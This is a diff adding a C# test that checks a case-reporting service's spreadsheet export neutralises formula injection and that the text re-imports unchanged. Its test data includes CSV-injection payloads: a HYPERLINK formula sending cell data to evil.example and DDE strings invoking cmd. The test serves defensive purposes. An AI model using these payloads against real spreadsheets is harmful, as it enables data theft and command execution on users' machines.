@@ -48,6 +48,34 @@ public sealed class ExportTests(CirmHost host)
         Assert.Equal(lines.Take(2).Select(l => ((string?)l["title"], (string?)l["closedAt"])), (await NdjsonAsync(other, "cases")).Lines.Select(l => ((string?)l["title"], (string?)l["closedAt"])));
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("+98 51 3123 4567")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("'=1+1 is what I typed")]
+    [InlineData("''=1+1")]
+    [InlineData("'tis dark, and '=' means nothing here")]
+    [InlineData("＝１＋１")]
+    [InlineData("'")]
+    public async Task What_citizens_wrote_is_no_formula_in_a_spreadsheet_and_comes_in_again_as_it_was(string text)
+    {
+        var (agency, other) = (await host.NewAgencyAsync(), await host.NewAgencyAsync());
+        foreach (var home in (TestAgency[])[agency, other]) await home.MakeServiceAsync();
+        await (await agency.Agent).PostJsonAsync($"{agency.Path}/cases",
+            new { service = "lights", kind = "report", title = text, description = text, channel = "web", location = new { latitude = -33.86, longitude = -71.06, area = text } });
+        var row = Assert.Single(await TableAsync(agency, "cases"));
+        foreach (var column in (string[])["title", "description", "area"]) Assert.DoesNotContain(row[column][0], "=+-@＝＋－＠");
+        Assert.Equal(("-33.86", "-71.06"), (row["latitude"], row["longitude"])); // a figure is a figure
+
+        row["externalId"] = "A-1";
+        var columns = Importing.Header.Split(',');
+        var line = string.Join(',', columns.Select(c => $"\"{row[c].Replace("\"", "\"\"", StringComparison.Ordinal)}\""));
+        Assert.Equal("succeeded: 1 processed, 1 accepted, 0 unchanged, 0 rejected", (await host.ImportAsync(other, "kind=cases", Importing.Text(Importing.Header, line))).Told());
+        var again = Assert.Single((await NdjsonAsync(other, "cases")).Lines);
+        Assert.Equal([text, text], ((string[])["title", "description"]).Select(c => (string?)again[c]));
+    }
+
     [Fact]
     public async Task A_long_file_is_in_pieces_and_whole_and_an_attempt_that_was_killed_leaves_nothing_of_its_own()
     {
